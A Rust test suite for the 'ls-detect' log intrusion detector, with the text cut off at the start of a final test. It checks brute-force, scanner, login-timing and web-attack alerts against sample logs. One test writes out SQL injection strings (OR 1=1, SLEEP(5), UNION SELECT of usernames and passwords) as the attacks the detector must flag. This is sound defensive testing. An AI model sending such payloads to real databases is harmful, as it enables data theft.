//! ls-detect end to end: events that ls-parse really produced, piped into the real binary.

use crate::common::*;
use std::collections::BTreeSet;
use std::io::Write;
use std::process::Command;
use std::time::Duration;

/// Events for `lines` of auth.log, as ls-parse writes them.
fn parsed(lines: &str) -> Vec<u8> {
    let output = ls_parse(&["ssh"], lines.as_bytes());
    assert!(output.status.success(), "{}", stderr(&output));
    output.stdout
}

/// A failed password for `user` from `ip`, `seconds` after 2026-03-14T01:00:00Z, by `pid`.
fn failure(seconds: u32, pid: u32, user: &str, ip: &str) -> String {
    let (minute, second) = (seconds / 60, seconds % 60);
    let (hour, minute) = (1 + minute / 60, minute % 60);
    format!(
        "2026-03-14T{hour:02}:{minute:02}:{second:02}+00:00 bastion sshd[{pid}]: Failed password for {user} from {ip} port 4{pid} ssh2\n"
    )
}

#[test]
fn the_alert_arrives_before_stdin_closes() {
    let events = parsed(
        &(0..5)
            .map(|n| failure(n * 10, 100 + n, "root", "203.0.113.9"))
            .collect::<String>(),
    );
    let Live {
        mut child,
        mut stdin,
        lines: receiver,
    } = live(LS_DETECT);
    for (index, event) in events.split_inclusive(|&b| b == b'\n').enumerate() {
        stdin.write_all(event).expect("write");
        stdin.flush().expect("flush");
        if index < 4 {
            assert!(
                receiver.recv_timeout(Duration::from_millis(200)).is_err(),
                "no alert before the fifth failure"
            );
        }
    }
    let line = receiver
        .recv_timeout(Duration::from_secs(10))
        .expect("the alert came while stdin was still open");
    let alert: Alert = serde_json::from_str(&line).expect("alert");
    assert_eq!((alert.rule.id.as_str(), alert.logsentry.count), ("brute-force", 5));
    drop(stdin);
    assert!(child.wait().expect("wait").success());
}

#[test]
fn sample_story_brute_force_then_compromise() {
    let events = ls_parse(&["ssh", sample("auth.log").to_str().expect("path")], b"");
    let output = ls_detect(&[], &events.stdout);
    assert!(output.status.success(), "{}", stderr(&output));
    let alerts = alerts(&output);
    let attacker: Vec<_> = alerts
        .iter()
        .filter(|alert| alert.source.as_ref().is_some_and(|s| s.ip == "203.0.113.47"))
        .collect();
    let brute = attacker
        .iter()
        .find(|alert| alert.rule.id == "brute-force")
        .expect("brute force from 203.0.113.47");
    assert_eq!(
        (
            brute.logsentry.severity.as_str(),
            brute.event.severity,
            brute.threat.technique.id.as_str()
        ),
        ("HIGH", 73, "T1110.001")
    );
    assert_eq!(brute.threat.framework, "MITRE ATT&CK");
    assert_eq!(brute.threat.tactic.name, "Credential Access");
    assert_eq!(brute.event.kind, "alert");
    assert_eq!(brute.event.module.as_deref(), Some("ssh"));
    assert!(brute.message.starts_with("5 failed SSH logins"), "{}", brute.message);
    assert!(brute.logsentry.first_seen <= brute.logsentry.last_seen);
    let compromise = attacker
        .iter()
        .find(|alert| alert.rule.id == "compromise-after-brute-force")
        .expect("compromise of 203.0.113.47");
    assert_eq!(
        (
            compromise.logsentry.severity.as_str(),
            compromise.threat.technique.id.as_str()
        ),
        ("CRITICAL", "T1078")
    );
    assert_eq!(compromise.user.as_ref().map(|u| u.name.as_str()), Some("root"));
    assert!(compromise.event.risk_score > brute.event.risk_score && compromise.event.risk_score <= 100);
    // Every piece of evidence is a line of the sample that names the attacker or its process.
    let sample_lines: Vec<String> = std::fs::read_to_string(sample("auth.log"))
        .expect("sample")
        .lines()
        .map(str::to_owned)
        .collect();
    for evidence in &brute.logsentry.evidence {
        assert!(evidence.path.as_deref().is_some_and(|p| p.ends_with("auth.log")));
        let line = evidence.line.expect("line") as usize;
        assert!(sample_lines[line - 1].contains("sshd"), "{}", sample_lines[line - 1]);
    }
    assert!(!brute.logsentry.sources.is_empty() && brute.rule.name.len() > 3);
    assert!(!brute.rule.description.is_empty() && brute.threat.technique.reference.contains("T1110/001"));
    assert!(!brute.threat.technique.name.is_empty() && brute.timestamp >= brute.logsentry.first_seen);
    assert_eq!(brute.logsentry.usernames_omitted, 0);
    assert!(!brute.logsentry.usernames.is_empty());
}

#[test]
fn one_alert_per_window_then_one_follow_up_with_the_new_count() {
    // 30 failures 50 s apart: the 5th fires; the activity goes on, so the first failure at
    // least 10 min after an alert brings one follow-up with the count so far.
    let log: String = (0..30)
        .map(|n| failure(n * 50, 1000 + n, "root", "198.51.100.7"))
        .collect();
    let output = ls_detect(&[], &parsed(&log));
    let counts: Vec<(String, u64)> = alerts(&output)
        .into_iter()
        .map(|alert| (alert.rule.id, alert.logsentry.count))
        .collect();
    assert_eq!(
        counts,
        [
            ("brute-force".to_owned(), 5),
            ("brute-force".to_owned(), 17),
            ("brute-force".to_owned(), 29)
        ]
    );
    let slower = ls_detect(&["--window", "30m"], &parsed(&log));
    assert_eq!(
        alerts(&slower).len(),
        1,
        "one alert when the window covers the whole attack"
    );
}

#[test]
fn one_attempt_logged_twice_counts_once() {
    // sshd logs an invalid user twice for one attempt and PAM adds a third line.
    let log: String = (0..4)
        .map(|n| {
            let pid = 2000 + n;
            format!(
                "2026-03-14T02:00:0{n}+00:00 bastion sshd[{pid}]: Invalid user guest from 192.0.2.50 port 5000\n\
                 2026-03-14T02:00:0{n}+00:00 bastion sshd[{pid}]: pam_unix(sshd:auth): check pass; user unknown\n\
                 2026-03-14T02:00:0{n}+00:00 bastion sshd[{pid}]: Failed password for invalid user guest from 192.0.2.50 port 5000 ssh2\n"
            )
        })
        .collect();
    let output = ls_detect(&[], &parsed(&log));
    assert!(alerts(&output).is_empty(), "four attempts are not five");
    let with_fifth = format!("{log}{}", failure(3600 + 5, 2010, "guest", "192.0.2.50"));
    let alerts = alerts(&ls_detect(&[], &parsed(&with_fifth)));
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].logsentry.count, 5);
}

#[test]
fn credential_stuffing_counts_each_username_once() {
    let log: String = ["a", "b", "a", "c"]
        .iter()
        .enumerate()
        .map(|(n, user)| failure(n as u32, 3000 + n as u32, user, "2001:db8:7:7::1"))
        .collect();
    let alerts = alerts(&ls_detect(&["--only", "credential-stuffing"], &parsed(&log)));
    assert_eq!(alerts.len(), 1);
    let alert = &alerts[0];
    assert_eq!(alert.rule.id, "credential-stuffing");
    assert_eq!(alert.threat.technique.id, "T1110.004");
    assert_eq!(alert.logsentry.usernames, ["a", "b", "c"]);
    assert_eq!(alert.source.as_ref().map(|s| s.ip.as_str()), Some("2001:db8:7:7::/64"));
    assert!(alert.user.is_none());
}

#[test]
fn other_records_pass_through_and_bad_lines_are_reported() {
    let alert_line = r#"{"event":{"kind":"alert"},"rule":{"id":"x"},"note":"from elsewhere"}"#;
    let odd_json = r#"[1,2,3]"#;
    let event = String::from_utf8(parsed(&failure(0, 1, "root", "192.0.2.1"))).expect("utf8");
    let input = format!("{alert_line}\nnot json at all\n{odd_json}\n{event}");
    let output = ls_detect(&[], input.as_bytes());
    assert_eq!(
        output.status.code(),
        Some(1),
        "a malformed line makes the exit status 1"
    );
    assert_eq!(
        String::from_utf8_lossy(&output.stdout),
        format!("{alert_line}\n{odd_json}\n")
    );
    let stderr = stderr(&output);
    assert!(stderr.contains("<stdin>:2: not a JSON record"), "{stderr}");
    assert!(
        stderr.contains("4 records, 1 events, 0 alerts, 2 passed through, 1 malformed"),
        "{stderr}"
    );
}

#[test]
fn rule_selection_and_usage_errors() {
    let log: String = (0..6)
        .map(|n| failure(n, 4000 + n, &format!("u{n}"), "192.0.2.77"))
        .collect();
    let events = parsed(&log);
    let ids = |args: &[&str]| -> BTreeSet<String> {
        alerts(&ls_detect(args, &events))
            .into_iter()
            .map(|alert| alert.rule.id)
            .collect()
    };
    assert_eq!(
        ids(&[]),
        BTreeSet::from(["brute-force".to_owned(), "credential-stuffing".to_owned()])
    );
    assert_eq!(
        ids(&["--skip", "brute-force"]),
        BTreeSet::from(["credential-stuffing".to_owned()])
    );
    assert_eq!(
        ids(&["--only", "brute-force"]),
        BTreeSet::from(["brute-force".to_owned()])
    );
    for bad in [
        &["--only", "no-such-rule"][..],
        &["--window", "soon"],
        &["--brute-force-threshold", "0"],
    ] {
        let output = ls_detect(bad, b"");
        assert_eq!(output.status.code(), Some(2), "{bad:?}");
        assert_eq!(stderr(&output).lines().count(), 1, "{bad:?}: {}", stderr(&output));
    }
    let listed = ls_detect(&["--list-rules"], b"");
    let text = String::from_utf8_lossy(&listed.stdout);
    for id in ["brute-force", "compromise-after-brute-force", "credential-stuffing"] {
        assert!(text.contains(id), "{text}");
    }
}

/// Real data: on the elastic auth.log the sources flagged for brute force are exactly those
/// with 5 attempts in 10 minutes, counted here from the raw lines: every `Failed ... from`
/// (times `message repeated`), and every `Invalid user ... from` whose process logged no
/// `Failed` line (an enumeration probe that never sent a password); 24.151.103.17's later
/// success is a CRITICAL compromise.
#[test]
#[cfg_attr(not(logsentry_corpus), ignore = "needs LOGSENTRY_CORPUS=../shared/corpus")]
fn elastic_auth_log_brute_force_sources_and_the_compromise() {
    let corpus = corpus();
    let path = corpus.join("elastic-examples/auth.log");
    let text = std::fs::read_to_string(&path).expect("auth.log");
    let expected = sources_with_five_attempts_in_ten_minutes(&text);
    assert!(expected.len() > 50, "{}", expected.len());
    let events = ls_parse(&["ssh", "--year", "2026", path.to_str().expect("path")], b"");
    let output = ls_detect(&[], &events.stdout);
    assert!(output.status.success(), "{}", stderr(&output));
    let alerts = alerts(&output);
    let flagged: BTreeSet<String> = alerts
        .iter()
        .filter(|alert| alert.rule.id == "brute-force")
        .filter_map(|alert| alert.source.as_ref().map(|s| s.ip.clone()))
        .collect();
    assert_eq!(
        flagged.symmetric_difference(&expected).collect::<Vec<_>>(),
        Vec::<&String>::new()
    );
    let compromise = alerts
        .iter()
        .find(|alert| {
            alert.rule.id == "compromise-after-brute-force"
                && alert.source.as_ref().is_some_and(|s| s.ip == "24.151.103.17")
        })
        .expect("24.151.103.17 compromised");
    assert_eq!(compromise.logsentry.severity, "CRITICAL");
    // 157 failures in all, 147 of them in the burst that preceded the success.
    assert_eq!(compromise.logsentry.count, 147);
}

/// The independent count: sshd lines grouped by process (pid and peer; a pid silent for ten
/// minutes is a new process), by hand.
fn sources_with_five_attempts_in_ten_minutes(text: &str) -> BTreeSet<String> {
    use std::collections::BTreeMap;
    const MONTHS: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    #[derive(Clone, Copy)]
    struct Process {
        first: i64,
        last: i64,
        failed: u64,
        invalid: u64,
    }
    let mut open: BTreeMap<(String, String), Process> = BTreeMap::new();
    let mut done: Vec<(String, Process)> = Vec::new();
    for line in text.lines() {
        let mut parts = line.split_whitespace();
        let (Some(month), Some(day), Some(clock)) = (parts.next(), parts.next(), parts.next()) else {
            continue;
        };
        let Some(month) = MONTHS.iter().position(|m| *m == month) else {
            continue;
        };
        let day: i64 = day.parse().unwrap_or(0);
        let hms: Vec<i64> = clock.split(':').map(|p| p.parse().unwrap_or(0)).collect();
        let time = ((month as i64 * 31 + day) * 24 + hms[0]) * 3600 + hms[1] * 60 + hms[2];
        let Some(tag_at) = line.find(" sshd[") else {
            continue;
        };
        let Some((pid, message)) = line[tag_at + 6..].split_once("]: ") else {
            continue;
        };
        let (times, message) = match message.strip_prefix("message repeated ") {
            Some(folded) => {
                let (count, inner) = folded.split_once(" times: [ ").unwrap_or(("1", folded));
                (count.parse().unwrap_or(1), inner)
            }
            None => (1, message),
        };
        let peer = |text: &str| {
            text.rsplit_once(" from ")
                .and_then(|(_, after)| after.split_whitespace().next())
                .map(str::to_owned)
        };
        let (ip, failed, invalid) = if message.starts_with("Failed ") {
            (peer(message), times, 0)
        } else if message.starts_with("Invalid user ") {
            (peer(message), 0, times)
        } else {
            (None, 0, 0)
        };
        let Some(ip) = ip else {
            continue;
        };
        let key = (pid.to_owned(), ip.clone());
        if let Some(process) = open.get(&key).copied() {
            if time - process.last > 600 {
                done.push((ip.clone(), process));
                open.remove(&key);
            }
        }
        let process = open.entry(key).or_insert(Process {
            first: time,
            last: time,
            failed: 0,
            invalid: 0,
        });
        process.last = time;
        process.failed += failed;
        process.invalid += invalid;
    }
    done.extend(open.into_iter().map(|((_, ip), process)| (ip, process)));
    let mut per_ip: BTreeMap<String, Vec<i64>> = BTreeMap::new();
    for (ip, process) in done {
        // One attempt logged as `Invalid user` and `Failed ... invalid user` counts once.
        let attempts = process.failed.max(process.invalid);
        per_ip
            .entry(ip)
            .or_default()
            .extend(std::iter::repeat_n(process.first, attempts as usize));
    }
    per_ip
        .into_iter()
        .filter(|(_, times)| {
            let mut times = times.clone();
            times.sort_unstable();
            times.windows(5).any(|five| five[4] - five[0] <= 600)
        })
        .map(|(ip, _)| ip)
        .collect()
}

/// An accepted login for `user` from `ip` at an RFC 3339 time.
fn accepted(at: &str, pid: u32, user: &str, ip: &str) -> String {
    format!("{at} bastion sshd[{pid}]: Accepted publickey for {user} from {ip} port 5{pid} ssh2: ED25519 SHA256:x\n")
}

#[test]
fn off_hours_and_weekend_logins() {
    let log = [
        // Tuesday 2026-03-17: 02:17 is off hours, 10:00 is work time, 18:00 is off again.
        accepted("2026-03-17T02:17:00+00:00", 1, "dbadmin", "203.0.113.47"),
        accepted("2026-03-17T10:00:00+00:00", 2, "alice", "192.0.2.10"),
        accepted("2026-03-17T18:00:00+00:00", 3, "bob", "192.0.2.11"),
        // The same user and source again within the window: no second alert.
        accepted("2026-03-17T18:05:00+00:00", 4, "bob", "192.0.2.11"),
        // Saturday.
        accepted("2026-03-21T11:00:00+00:00", 5, "carol", "192.0.2.12"),
        failure(0, 6, "root", "192.0.2.99"),
    ]
    .concat();
    let events = parsed(&log);
    let fired = |args: &[&str]| -> Vec<(String, String, String)> {
        alerts(&ls_detect(args, &events))
            .into_iter()
            .map(|alert| {
                let user = alert.user.map(|user| user.name).unwrap_or_default();
                (alert.rule.id, alert.logsentry.severity, user)
            })
            .collect()
    };
    let expected = |rows: &[(&str, &str, &str)]| -> Vec<(String, String, String)> {
        rows.iter()
            .map(|(rule, severity, user)| ((*rule).to_owned(), (*severity).to_owned(), (*user).to_owned()))
            .collect()
    };
    assert_eq!(
        fired(&["--tz", "UTC"]),
        expected(&[
            ("off-hours-login", "HIGH", "dbadmin"),
            ("off-hours-login", "HIGH", "bob"),
            ("weekend-login", "CRITICAL", "carol")
        ])
    );
    // In New York (UTC-4 in March) 18:00Z is 14:00, work time, and 10:00Z is 06:00, before
    // it; 02:17Z is 22:17 the evening before.
    assert_eq!(
        fired(&["--tz", "America/New_York"]),
        expected(&[
            ("off-hours-login", "HIGH", "dbadmin"),
            ("off-hours-login", "HIGH", "alice"),
            ("weekend-login", "CRITICAL", "carol")
        ])
    );
    assert_eq!(
        fired(&[
            "--tz",
            "UTC",
            "--allow-user",
            "dbadmin",
            "--allow-source",
            "192.0.2.0/28"
        ]),
        expected(&[])
    );
    assert_eq!(
        fired(&["--tz", "UTC", "--work-hours", "00:00-23:59", "--weekend", "none"]),
        expected(&[])
    );
    let message = alerts(&ls_detect(&["--tz", "UTC", "--only", "weekend-login"], &events))
        .pop()
        .map(|alert| (alert.message, alert.threat.technique.id))
        .expect("weekend alert");
    assert_eq!(
        message,
        (
            "SSH login as carol from 192.0.2.12 on Saturday at 11:00 UTC, a weekend day".to_owned(),
            "T1078.003".to_owned()
        )
    );
    for bad in [
        &["--work-hours", "8-18"][..],
        &["--weekend", "funday"],
        &["--allow-source", "10.0.0.0/99"],
        &["--tz", "Mars/Base"],
    ] {
        assert_eq!(ls_detect(bad, b"").status.code(), Some(2), "{bad:?}");
    }
}

#[test]
fn scanner_on_the_sample_and_its_threshold() {
    let events = ls_parse(&["apache", sample("access.log").to_str().expect("path")], b"");
    let scans = |args: &[&str]| -> BTreeSet<String> {
        alerts(&ls_detect(args, &events.stdout))
            .into_iter()
            .filter(|alert| alert.rule.id == "scanner")
            .map(|alert| {
                assert_eq!(
                    (alert.logsentry.severity.as_str(), alert.threat.technique.id.as_str()),
                    ("MEDIUM", "T1595")
                );
                alert.source.map(|source| source.ip).unwrap_or_default()
            })
            .collect()
    };
    let flagged = scans(&[]);
    assert!(flagged.contains("203.0.113.47"), "{flagged:?}");
    assert!(scans(&["--scan-threshold", "1000"]).is_empty());
}

/// Real data: on the elastic apache_logs the sources flagged as scanners are exactly those
/// with 10 responses 404 in 10 minutes, counted here from the raw lines.
#[test]
#[cfg_attr(not(logsentry_corpus), ignore = "needs LOGSENTRY_CORPUS=../shared/corpus")]
fn elastic_apache_logs_scanners() {
    let corpus = corpus();
    let path = corpus.join("elastic-examples/apache_logs");
    let text = String::from_utf8_lossy(&std::fs::read(&path).expect("apache_logs")).into_owned();
    let mut misses: std::collections::BTreeMap<String, Vec<i64>> = Default::default();
    for line in text.lines() {
        let Some((ip, rest)) = line.split_once(' ') else {
            continue;
        };
        let Some((_, after_time)) = rest.split_once("] \"") else {
            continue;
        };
        let time = &rest[rest.find('[').map_or(0, |at| at + 1)..];
        let Some(stamp) = chrono::DateTime::parse_from_str(&time[..26.min(time.len())], "%d/%b/%Y:%H:%M:%S %z").ok()
        else {
            continue;
        };
        let Some((_, after_request)) = after_time.split_once("\" ") else {
            continue;
        };
        if after_request.starts_with("404 ") {
            misses.entry(ip.to_owned()).or_default().push(stamp.timestamp());
        }
    }
    let expected: BTreeSet<String> = misses
        .into_iter()
        .filter(|(_, times)| {
            let mut times = times.clone();
            times.sort_unstable();
            times.windows(10).any(|ten| ten[9] - ten[0] <= 600)
        })
        .map(|(ip, _)| ip)
        .collect();
    // 208.91.156.11 has the most 404s (60), but spread over days: no scan by this rule.
    assert!(
        !expected.is_empty() && !expected.contains("208.91.156.11"),
        "{expected:?}"
    );
    let events = ls_parse(&["apache", path.to_str().expect("path")], b"");
    let flagged: BTreeSet<String> = alerts(&ls_detect(&["--only", "scanner"], &events.stdout))
        .into_iter()
        .filter_map(|alert| alert.source.map(|source| source.ip))
        .collect();
    assert_eq!(flagged, expected);
}

#[test]
fn account_changes_on_the_sample() {
    let events = ls_parse(&["ssh", sample("auth.log").to_str().expect("path")], b"");
    let only = "account-created,privileged-group-member-added,sudo-failure";
    let fired = |extra: &[&str]| -> Vec<(String, String, String)> {
        let mut args = vec!["--only", only];
        args.extend_from_slice(extra);
        alerts(&ls_detect(&args, &events.stdout))
            .into_iter()
            .map(|alert| (alert.rule.id, alert.threat.technique.id, alert.message))
            .collect()
    };
    let row = |rule: &str, technique: &str, message: &str| (rule.to_owned(), technique.to_owned(), message.to_owned());
    assert_eq!(
        fired(&[]),
        [
            row("account-created", "T1136.001", "Account dbadmin created on bastion"),
            row(
                "privileged-group-member-added",
                "T1098",
                "dbadmin added to the privileged group sudo on bastion"
            ),
            row("sudo-failure", "T1110", "sudo refused for mallory on bastion"),
            // carol's wrong password is logged twice (PAM and sudo): one alert.
            row("sudo-failure", "T1110", "sudo refused for carol on bastion"),
        ]
    );
    // backup-ops is not privileged by default; named, it is, and sudo no longer is.
    let custom = fired(&["--privileged-group", "backup-ops", "--skip", "sudo-failure"]);
    assert_eq!(
        custom,
        [
            row("account-created", "T1136.001", "Account dbadmin created on bastion"),
            row(
                "privileged-group-member-added",
                "T1098",
                "bob added to the privileged group backup-ops on bastion"
            ),
        ]
    );
}

#[test]
fn a_config_file_sets_what_the_flags_set() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = dir.path().join("detect.toml");
    std::fs::write(&config, "brute-force-threshold = 3\nonly = [\"brute-force\"]\n").expect("write");
    let log: String = (0..3).map(|n| failure(n, 5000 + n, "root", "192.0.2.33")).collect();
    let events = parsed(&log);
    let config = config.to_str().expect("path");
    let counts = |args: &[&str]| -> Vec<u64> {
        alerts(&ls_detect(args, &events))
            .into_iter()
            .map(|alert| alert.logsentry.count)
            .collect()
    };
    assert_eq!(
        counts(&[]),
        Vec::<u64>::new(),
        "3 failures are below the default threshold"
    );
    assert_eq!(counts(&["--config", config]), [3]);
    assert_eq!(
        counts(&["--config", config, "--brute-force-threshold", "4"]),
        Vec::<u64>::new()
    );
}

#[test]
fn web_attacks_on_the_sample_story() {
    let events = ls_parse(&["apache", sample("access.log").to_str().expect("path")], b"");
    let alerts = alerts(&ls_detect(&["--skip", "scanner"], &events.stdout));
    let seen: Vec<(String, String, String)> = alerts
        .into_iter()
        .filter(|alert| alert.source.as_ref().is_some_and(|s| s.ip == "203.0.113.47"))
        .map(|alert| (alert.rule.id, alert.logsentry.severity, alert.threat.technique.id))
        .collect();
    let row =
        |rule: &str, severity: &str, technique: &str| (rule.to_owned(), severity.to_owned(), technique.to_owned());
    assert_eq!(
        seen,
        [
            // It announces itself: the Nmap Scripting Engine's own User-Agent.
            row("scanner-agent", "MEDIUM", "T1595.002"),
            // It looks for what a careless site leaves lying about: .htaccess, phpinfo.php.
            row("sensitive-file-probe", "MEDIUM", "T1595.003"),
            row("sensitive-file-probe", "MEDIUM", "T1595.003"),
            row("sql-injection", "HIGH", "T1190"),
            // The traversal was answered 200: the file was served.
            row("directory-traversal-served", "CRITICAL", "T1083"),
            row("command-injection", "CRITICAL", "T1059"),
            row("cross-site-scripting", "MEDIUM", "T1059.007"),
        ]
    );
}

#[test]
fn a_closed_pipe_ends_quietly() {
    let log: String = (0..1000u32)
        .map(|n| {
            failure(
                n / 200,
                1000 + n,
                "root",
                &format!("198.18.{}.{}", n % 200 / 100, n % 100 + 1),
            )
        })
        .collect();
    let dir = tempfile::tempdir().expect("tempdir");
    let events = dir.path().join("events.ndjson");
    std::fs::write(&events, parsed(&log)).expect("write events");
    let bin_dir = std::path::Path::new(LS_DETECT).parent().expect("bin dir");
    let output = Command::new("bash")
        .args(["-o", "pipefail", "-c", "ls-detect \"$1\" | head -1", "bash"])
        .arg(&events)
        .env(
            "PATH",
            format!("{}:{}", bin_dir.display(), std::env::var("PATH").unwrap_or_default()),
        )
        .output()
        .expect("bash");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(String::from_utf8_lossy(&output.stdout).lines().count(), 1);
    assert!(!String::from_utf8_lossy(&output.stderr).contains("panicked"));
}

#[test]
fn mysql_guessing_then_an_ssh_login_names_both_doors_and_app_logins_are_not_off_hours() {
    // Saturday night: four refused MySQL logins and two failed SSH passwords from one
    // address (a brute force across both), then its SSH login; meanwhile the shop's
    // application connects to its database as every night.
    let mysql_log: String = (0..4)
        .map(|i| {
            format!(
                "2026-03-14T01:00:0{i}.000000Z 8{i} [Note] [MY-010926] [Server] Access denied for user 'root'@'203.0.113.47' (using password: YES)\n"
            )
        })
        .collect();
    let general_log = "2026-03-14T01:00:30.000000Z\t  41 Connect\tshop@10.0.0.5 on shop using TCP/IP\n";
    let dir = tempfile::tempdir().expect("tempdir");
    let write = |name: &str, text: &str| {
        let path = dir.path().join(name);
        std::fs::write(&path, text).expect("write");
        path.to_string_lossy().into_owned()
    };
    let error_path = write("error.log", &mysql_log);
    let general_path = write("general.log", general_log);
    let auth_path = write(
        "auth.log",
        &[
            failure(10, 7, "root", "203.0.113.47"),
            failure(12, 7, "root", "203.0.113.47"),
            accepted("2026-03-14T01:01:00+00:00", 8, "root", "203.0.113.47"),
        ]
        .concat(),
    );
    let parsed = ls_parse(&["auto", &error_path, &general_path, &auth_path], b"");
    assert!(parsed.status.success(), "{}", stderr(&parsed));
    let fired = alerts(&ls_detect(&["--tz", "UTC"], &parsed.stdout));
    let rules: Vec<&str> = fired.iter().map(|alert| alert.rule.id.as_str()).collect();
    let brute_force = fired
        .iter()
        .find(|alert| alert.rule.id == "brute-force")
        .unwrap_or_else(|| panic!("{rules:?}"));
    assert_eq!(
        brute_force.message,
        "5 failed MySQL and SSH logins for root from 203.0.113.47 in 10 s"
    );
    let compromise = fired
        .iter()
        .find(|alert| alert.rule.id == "compromise-after-brute-force")
        .unwrap_or_else(|| panic!("{rules:?}"));
    assert_eq!(
        compromise.message,
        "SSH login as root from 203.0.113.47 succeeded after 6 failed MySQL and SSH logins"
    );
    // The login that succeeded was SSH, on bastion; the alert counted both doors.
    assert_eq!(compromise.event.module.as_deref(), Some("ssh"));
    assert_eq!(compromise.logsentry.modules, ["mysql", "ssh"]);
    assert_eq!(
        compromise.host.as_ref().map(|host| host.hostname.as_str()),
        Some("bastion")
    );
    // The SSH login at the weekend is flagged; the application's database login is not.
    let weekend: Vec<_> = fired
        .iter()
        .filter(|alert| alert.rule.id == "weekend-login")
        .map(|alert| alert.user.as_ref().map(|user| user.name.as_str()))
        .collect();
    assert_eq!(weekend, [Some("root")]);
}

#[test]
fn sql_injection_reaching_the_database_in_the_sample_story() {
    let parsed = ls_parse(&["auto", sample("").to_str().expect("path")], b"");
    assert!(parsed.status.success(), "{}", stderr(&parsed));
    let fired: Vec<(String, String)> = alerts(&ls_detect(&["-q", "--tz", "UTC"], &parsed.stdout))
        .into_iter()
        .filter(|alert| alert.rule.id == "sql-injection-in-query")
        .map(|alert| (alert.timestamp, alert.message))
        .collect();
    // The three injected statements of the general log, and the time-based one again as
    // the slow log recorded it; the shop's ordinary queries are not flagged.
    let expected = [
        ("2026-03-14T00:45:01.201544Z", "a condition on constants in SELECT id, name, price, description FROM products WHERE id = '12' OR 1=1-- '"),
        ("2026-03-14T00:46:07Z", "a time delay as a condition in SELECT id, name, price, description FROM products WHERE id = '12' AND SLEEP(5)-- ';"),
        ("2026-03-14T00:46:07.002114Z", "a time delay as a condition in SELECT id, name, price, description FROM products WHERE id = '12' AND SLEEP(5)-- '"),
        ("2026-03-14T01:04:00.180331Z", "UNION SELECT after a value in SELECT id, name, price, description FROM products WHERE id = 12 UNION SELECT username,password FROM users--"),
    ];
    assert_eq!(fired.len(), expected.len(), "{fired:?}");
    for ((time, message), (want_time, want_sign)) in fired.iter().zip(expected) {
        assert_eq!(time, want_time);
        assert_eq!(
            message,
            &format!("SQL injection reached MySQL from shop@10.0.0.5: {want_sign}")
        );
    }
}

#[test]
fn user_name_is_the_one_account_an_alert_concerns_or_absent() {
    let alerts: Vec<serde_json::Value> = sample_alerts()
        .split(|byte| *byte == b'\n')
        .filter(|line| !line.is_empty())
        .map(|line| serde_json::from_slice(line).expect("alert JSON"))
        .filter(|alert: &serde_json::Value| alert["rule"]["id"] == "brute-force")
        .collect();
    let tried = |alert: &serde_json::Value| alert["logsentry"]["usernames"].as_array().map_or(0, Vec::len);
    assert!(alerts.iter().any(|alert| tried(alert) == 1) && alerts.iter().any(|alert| tried(alert) > 1));
    for alert in &alerts {
        match tried(alert) {
            1 => assert_eq!(alert["user"]["name"], alert["logsentry"]["usernames"][0], "{alert}"),
            _ => assert!(
                alert.get("user").is_none(),
                "several accounts tried, none named: {alert}"
            ),
        }
    }
}

/// A config file that cannot be read is a data error (exit 1); one that asks for what cannot
/// be is a usage error (exit 2), as the same flag would be.
#[test]
fn config_files_fail_by_kind() {
    let dir = tempfile::tempdir().expect("tempdir");
    let missing = dir.path().join("missing.toml");
    let output = ls_detect(&["--config", missing.to_str().expect("path")], b"");
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(stderr(&output).contains("missing.toml"), "{}", stderr(&output));
    let zero = dir.path().join("zero.toml");
    std::fs::write(&zero, "scan-threshold = 0\n").expect("write");
    let output = ls_detect(&["--config", zero.to_str().expect("path")], b"");
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("scan-threshold must be at least 1"),
        "{}",
        stderr(&output)
    );
    // Not TOML: file:line:column first, then the line with a caret, never squashed into one
    // line, and not dressed as a mistake in a flag.
    let broken = dir.path().join("broken.toml");
    std::fs::write(&broken, "tz = \"UTC\"\nonly = [\"brute-force\"\n").expect("write");
    let output = ls_detect(&["--config", broken.to_str().expect("path")], b"");
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    let said = stderr(&output);
    let lines: Vec<&str> = said.lines().collect();
    assert_eq!(lines.len(), 3, "{said}");
    assert!(
        lines[0].starts_with("ls-detect: error: ") && lines[0].contains("broken.toml:2:22: "),
        "{said}"
    );
    assert!(!said.contains("--help"), "{said}");
    assert!(
        lines[2].trim_end().ends_with(" ^") && lines[2].contains(" | "),
        "{said}"
    );
}

/// Every setting a rule declares is a flag and a config key of the same name, and
/// `--list-rules` shows its value: a new threshold needs no edit outside its rule's file.
#[test]
fn every_declared_setting_is_a_flag_a_config_key_and_listed() {
    use logsentry::detect::{settings, SettingKind};
    let dir = tempfile::tempdir().expect("tempdir");
    let listed = |args: &[&str]| {
        let output = ls_detect(args, b"");
        assert!(output.status.success(), "{args:?}: {}", stderr(&output));
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let defaults = listed(&["--list-rules"]);
    let in_rules: Vec<&str> = logsentry::detect::rules()
        .iter()
        .flat_map(|rule| rule.settings.iter().map(|setting| setting.name))
        .collect();
    for setting in settings() {
        let (flag_value, toml_value, shown) = match setting.kind {
            SettingKind::Count { default, max, .. } => {
                let value = if default < max { default + 1 } else { default - 1 };
                (value.to_string(), value.to_string(), value.to_string())
            }
            SettingKind::Duration { default } => {
                let value = default + 7;
                (value.to_string(), format!("\"{value}\""), value.to_string())
            }
        };
        let flag = format!("--{}", setting.name);
        let by_flag = listed(&["--list-rules", &flag, &flag_value]);
        let path = dir.path().join(format!("{}.toml", setting.name));
        std::fs::write(&path, format!("{} = {toml_value}\n", setting.name)).expect("write");
        let by_file = listed(&["--list-rules", "--config", path.to_str().expect("path")]);
        assert_eq!(by_flag, by_file, "{}", setting.name);
        if in_rules.contains(&setting.name) {
            assert!(
                by_flag.contains(&format!("{flag} {shown}")),
                "{}: {by_flag}",
                setting.name
            );
            assert_ne!(by_flag, defaults, "{}", setting.name);
        }
    }
}

/// Every technique and tactic a rule names is in the one ATT&CK table (generated from MITRE's
/// STIX data), with the name and page ATT&CK gives it, and is neither revoked nor deprecated.
#[test]
fn every_rule_names_its_technique_and_tactic_as_attack_does() {
    let table = logsentry::attack::enterprise();
